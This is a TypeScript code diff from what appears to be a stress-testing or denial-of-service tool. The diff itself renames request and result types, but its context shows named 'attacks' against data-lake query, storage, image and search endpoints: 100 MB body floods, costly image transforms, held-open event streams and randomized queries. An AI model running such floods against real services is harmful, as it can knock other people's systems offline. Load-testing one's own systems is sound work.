@@ -1,6 +1,6 @@
 import { randomBytes, randomUUID } from 'node:crypto'
 import { connect } from 'node:net'
-import { type Ask, ask, type Told } from './client.ts'
+import { type SiegeRequest, type SiegeResult, sendRequest } from './client.ts'
 
 /**
  * Input of an attack: the server's origin, the number of earlier requests, and an address to send
@@ -14,16 +14,16 @@ export interface Strike {
 }
 
 /** Strikes once; its status is counted. */
-export type Attack = (strike: Strike) => Promise<Told>
+export type Attack = (strike: Strike) => Promise<SiegeResult>
 
 const QUERY = '/lake/v2025-02-19/data/query/production'
 const LISTEN = '/lake/v2025-02-19/data/listen/production'
 const FORM = { 'content-type': 'application/x-www-form-urlencoded' }
 
 const to =
-  (path: string, more: Omit<Ask, 'path'> = {}): Attack =>
+  (path: string, more: Omit<SiegeRequest, 'path'> = {}): Attack =>
   ({ origin, from }) =>
-    ask(origin, { path, from, ...more })
+    sendRequest(origin, { path, from, ...more })
 
 /** Takes turns with several ways of one attack. */
 const oneOf =
@@ -48,7 +48,8 @@ const flood = (megabytes: number, text: string) => {
 }
 const bigBody = (path: string, text: string, headers: Record<string, string> = FORM): Attack => {
   const begin = flood(100, text)
-  return ({ origin, from }) => ask(origin, { path, from, method: 'POST', headers, body: begin() })
+  return ({ origin, from }) =>
+    sendRequest(origin, { path, from, method: 'POST', headers, body: begin() })
 }
 
 const STORAGE = '/supabase/storage/v1/object/media/x/y.png'
@@ -102,7 +103,7 @@ export const attacks: Record<string, Attack> = {
   ),
   images: ({ origin, from, turn, targets }) => {
     const path = `${targets.image}?w=${400 + ((turn * 37) % 1500)}&h=${300 + (turn % 900)}&fm=avif&blur=${turn % 50}`
-    return ask(origin, { path, from })
+    return sendRequest(origin, { path, from })
   },
   listeners: hold(
     `GET ${LISTEN}?query=${costlyFilter} HTTP/1.1\r\nHost: HOST\r\nAccept: text/event-stream\r\n\r\n`,
@@ -133,7 +134,7 @@ export const attacks: Record<string, Attack> = {
   searches: (strike) => to(`/buscar?q=a${randomUUID().slice(0, 4)}`)(strike),
   pictures: ({ origin, from, turn }) => {
     const page = sharedPages[turn % sharedPages.length] ?? ''
-    return ask(origin, { path: `/og/${page}.png`, from, timeout: 20_000 })
+    return sendRequest(origin, { path: `/og/${page}.png`, from, timeout: 20_000 })
   },
   passwords: (strike) =>
     oneOf(
